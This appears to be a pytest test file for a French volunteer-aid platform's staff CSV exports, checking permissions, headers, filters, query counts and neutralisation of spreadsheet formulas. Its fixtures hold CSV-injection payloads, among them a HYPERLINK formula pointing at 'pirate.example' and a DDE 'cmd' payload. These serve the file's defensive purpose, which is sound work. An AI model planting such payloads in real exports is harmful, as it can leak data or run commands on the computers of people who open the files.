import csv
import io
from datetime import timedelta

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from core.models import HelpType
from pilotage import exports
from tests.accounts.factories import UserFactory
from tests.associations.factories import AssociationFactory, MembershipFactory
from tests.core.factories import commune
from tests.pilotage.conftest import paris
from tests.requests_app.factories import HelpRequestFactory
from tests.volunteers.factories import VolunteerProfileFactory
from volunteers.models import Skill

pytestmark = pytest.mark.django_db

REQUESTS = "/pilotage/exports/demandes.csv"
VOLUNTEERS = "/pilotage/exports/benevoles.csv"
ASSOCIATIONS = "/pilotage/exports/structures.csv"
OPEN_DATA = "/pilotage/exports/statistiques-demandes.csv"
PERSONAL = [REQUESTS, VOLUNTEERS, ASSOCIATIONS]


def read_csv(response) -> tuple[str, list[list[str]]]:
    """The raw text (BOM included) and the rows, read as a spreadsheet would: semicolons, quotes."""
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="')
    text = b"".join(response.streaming_content).decode("utf-8")
    return text, list(csv.reader(io.StringIO(text.removeprefix(exports.BOM)), delimiter=";"))


@pytest.mark.parametrize("url", [*PERSONAL, OPEN_DATA])
def test_exports_are_for_staff_only(client, url):
    response = client.get(url)
    assert response.status_code == 302 and "/comptes/login/" in response["Location"]
    client.force_login(UserFactory())
    assert client.get(url).status_code == 403


@pytest.mark.parametrize("url", PERSONAL)
def test_personal_data_exports_need_the_export_permission(client, url):
    client.force_login(UserFactory(staff=True))  # staff, but outside the staff group
    assert client.get(url).status_code == 403


def test_staff_without_the_export_permission_may_still_download_the_anonymous_statistics(client):
    client.force_login(UserFactory(staff=True))
    assert client.get(OPEN_DATA).status_code == 200


def test_the_staff_group_holds_the_export_permission(staff):
    assert staff.has_perm("pilotage.export_personal_data")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+33 6 12", "'+33 6 12"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("Marie-Claire", "Marie-Claire"),
        ("", ""),
        (None, ""),
        (True, "oui"),
        (3, "3"),
    ],
)
def test_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(value, cell):
    assert exports.neutralise(value) == cell


def test_the_requests_export_has_french_headers_a_bom_semicolons_and_no_formula(client, staff):
    HelpRequestFactory(
        requester_name='=HYPERLINK("http://pirate.example/?"&A1;"Cliquez")',
        requester_phone="+33612345678",
        requester_email="monique@exemple.fr",
        beneficiary_name="@Jean",
        address="-12 rue des Lilas; bâtiment B",
        description="+ lait\n= pain",
        aged_70_plus=True,
    )

    text, rows = read_csv(client.get(REQUESTS))

    assert text.startswith("\ufeffRéférence;Reçue le;Origine;Statut;")
    assert rows[0] == [column.header for column in exports.REQUEST_COLUMNS]
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Demandeur"] == '\'=HYPERLINK("http://pirate.example/?"&A1;"Cliquez")'
    assert row["Personne à aider"] == "'@Jean"
    assert row["Adresse"] == "'-12 rue des Lilas; bâtiment B"  # the semicolon inside is quoted, not a new column
    assert row["Description"] == "'+ lait\n= pain"
    assert row["Téléphone du demandeur"] == "06 12 34 56 78"  # as people dial it, never "+33…"
    assert row["Courriel du demandeur"] == "monique@exemple.fr"
    assert (row["Origine"], row["Statut"], row["Domaine"]) == (
        "Formulaire en ligne",
        "Reçue",
        "Solidarité de proximité",
    )
    assert (row["Code INSEE"], row["Commune"], row["Intercommunalité"]) == (
        "54395",
        "Nancy",
        "Métropole du Grand Nancy",
    )
    assert (row["70 ans ou plus"], row["Vit seule"]) == ("oui", "non")
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in rows[1])


def test_the_requests_export_follows_the_dashboard_filters(client, staff, frozen_now):
    in_period = HelpRequestFactory(created_at=paris(3, 10))
    HelpRequestFactory(created_at=paris(20, 10, month=3))  # before the period
    HelpRequestFactory(created_at=paris(4, 10), commune=commune("54329"))  # another EPCI
    HelpRequestFactory(created_at=paris(5, 10), help_type=HelpType.objects.get(code="food_parcel"))  # another domain

    _text, rows = read_csv(
        client.get(REQUESTS, {"du": "2020-04-01", "au": "2020-04-10", "epci": commune("54395").epci_id,
                              "domaine": "local_solidarity"})
    )  # fmt: skip

    assert [row[0] for row in rows[1:]] == [in_period.reference]


def test_an_export_with_bad_filters_is_refused_rather_than_widened(client, staff):
    assert client.get(REQUESTS, {"du": "pas une date"}).status_code == 400


def test_the_export_is_in_french_whatever_the_interface_language(client, staff):
    HelpRequestFactory()
    client.cookies["django_language"] = "en"
    _text, rows = read_csv(client.get(REQUESTS))
    assert rows[0][0] == "Référence" and rows[1][3] == "Reçue"


def test_the_volunteers_export(client, staff):
    volunteer = VolunteerProfileFactory(user__first_name="=cmd|' /C calc'!A0", user__last_name="Durand")
    volunteer.skills.add(Skill.objects.create(name="Permis B"), Skill.objects.create(name="Premiers secours"))

    text, rows = read_csv(client.get(VOLUNTEERS))

    assert text.startswith("\ufeffNuméro;Inscrit le;Prénom;Nom;Courriel;")
    assert rows[0] == [column.header for column in exports.VOLUNTEER_COLUMNS]
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Prénom"] == "'=cmd|' /C calc'!A0"
    assert row["Compétences"] == "Permis B, Premiers secours"
    assert row["Domaines"].startswith("Aide alimentaire et d'urgence, ")
    assert row["Attestations données"] == "oui"


def test_the_organisations_export(client, staff):
    association = AssociationFactory(name="@SUM(1+1) Entraide", siret="", rna="W543000001")
    MembershipFactory.create_batch(2, association=association)

    text, rows = read_csv(client.get(ASSOCIATIONS))

    assert text.startswith("\ufeffNuméro;Nom;Type de structure;Statut;")
    assert rows[0] == [column.header for column in exports.ASSOCIATION_COLUMNS]
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Nom"] == "'@SUM(1+1) Entraide"
    assert (row["Statut"], row["Numéro RNA"], row["Membres"]) == ("Validée", "W543000001", "2")


def test_the_open_data_export_counts_by_commune_domain_and_iso_week_without_any_personal_field(
    client, staff, frozen_now
):
    personal = {
        "requester_name": "Gisèle Personne",
        "requester_email": "gisele@exemple.fr",
        "beneficiary_name": "Paul Personne",
        "address": "3 impasse Secrète",
        "description": "Insuline",
    }
    created = [HelpRequestFactory(created_at=paris(day, 10), **personal) for day in (6, 7, 8, 9)]  # Monday to Thursday
    created += [HelpRequestFactory(created_at=paris(3, 10), **personal) for _ in range(3)]  # Friday of the week before
    HelpRequestFactory.create_batch(2, created_at=paris(7, 10), commune=commune("54329"))  # too few to publish

    text, rows = read_csv(client.get(OPEN_DATA, {"du": "2020-04-01", "au": "2020-04-10"}))

    assert rows == [
        ["code_insee", "commune", "domaine", "libelle_domaine", "semaine_iso", "debut_semaine", "nombre_demandes"],
        ["54395", "Nancy", "local_solidarity", "Solidarité de proximité", "2020-W14", "2020-03-30", "3"],
        ["54395", "Nancy", "local_solidarity", "Solidarité de proximité", "2020-W15", "2020-04-06", "4"],
    ]
    assert text.startswith("\ufeffcode_insee;")
    for value in [*personal.values(), *(r.reference for r in created), "+336"]:
        assert value not in text


def test_open_data_rows_hold_only_aggregate_keys(frozen_now, april):
    HelpRequestFactory.create_batch(3, created_at=paris(6, 10))
    (row,) = list(exports.open_data_rows(april))
    assert set(row) == {"week", "commune", "commune__name", "domain", "n"}


@pytest.mark.parametrize("url", [*PERSONAL, OPEN_DATA])
def test_an_export_makes_as_many_queries_for_50_rows_as_for_1(client, staff, url):
    def volume(rows):
        now = timezone.now()
        for index in range(rows):
            HelpRequestFactory(created_at=now - timedelta(minutes=index))
            VolunteerProfileFactory().skills.add(Skill.objects.get_or_create(name="Permis B")[0])
            AssociationFactory()

    def queries_for_export():
        with CaptureQueriesContext(connection) as queries:
            b"".join(client.get(url).streaming_content)
        return len(queries)

    volume(1)
    one = queries_for_export()
    volume(49)
    assert queries_for_export() == one
